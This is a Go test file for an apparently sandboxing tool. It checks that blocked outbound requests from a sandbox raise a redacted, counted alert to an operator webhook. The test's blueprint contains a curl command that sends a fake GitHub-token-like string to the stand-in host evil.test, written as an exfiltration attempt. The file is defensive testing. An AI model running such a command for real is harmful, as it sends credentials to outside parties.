package nodes_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sandgate/sandgate/nodes"
	"github.com/sandgate/sandgate/nodes/internal/nodetest"
	"github.com/sandgate/sandgate/runtime"
	"github.com/sandgate/sandgate/sandbox"
)

// TestAlertFromBoxReachesWebhook: the box asks the egress proxy for a host
// the blueprint does not allow, twice, with a token-shaped string in the
// URL; the alert reaches the operator's webhook (posted by the harness),
// folded into one count of 2 however the deliveries fell, without the
// token, and the run's record says delivered.
func TestAlertFromBoxReachesWebhook(t *testing.T) {
	rcv := nodetest.NewAlertReceiver(t)
	repo := nodetest.SeedRepo(t)
	rt := nodes.NewRuntime(nodes.Config{RunsDir: t.TempDir(), Repo: repo, CacheDir: t.TempDir(), Caches: []sandbox.Cache{}, ColdBuilds: true,
		AlertSinks: []nodes.AlertSink{rcv.Sink()}})
	const tok = "ghp_0123456789abcdefghijABCDEFGHIJ0123"
	get := "curl -s -m 20 -o /dev/null 'http://evil.test/collect?token=" + tok + "'"
	src := "version: 1\nname: alerts\nsandbox: {network: allowlist, allow_hosts: [example.com]}\nstart: s\nnodes:\n" +
		"  s: {type: shell, run: \"" + get + "; " + get + "; true\", next: done}\n  done: {type: succeed}\n"
	bp, err := rt.Registry.Parse("alerts.yaml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	sum, err := rt.Run(t.Context(), bp, runtime.RunOptions{Workspace: repo})
	if err != nil || sum.Status != runtime.StatusSucceeded {
		t.Fatalf("run: %v %v (%s)", err, sum.Status, sum.Reason)
	}
	// The run's end drained the alerts: they are in already.
	events, bodies := rcv.Events()
	if strings.Contains(strings.Join(bodies, "\n"), "ghp_") {
		t.Errorf("the receiver got the token: %s", bodies)
	}
	count := 0
	for _, e := range events {
		if e.Kind != "egress_denied" || e.Key != "evil.test" || e.Run != sum.RunID {
			t.Errorf("unexpected alert %+v", e)
		}
		count += e.Count
	}
	if count != 2 {
		t.Errorf("alerts %+v: a count of %d, want the 2 requests", events, count)
	}
	rec, err := os.ReadFile(filepath.Join(sum.Dir, nodes.AlertsFile))
	if err != nil || !strings.Contains(string(rec), `"status":"delivered"`) || strings.Contains(string(rec), "ghp_") {
		t.Errorf("the run's record (%v):\n%s", err, rec)
	}
}
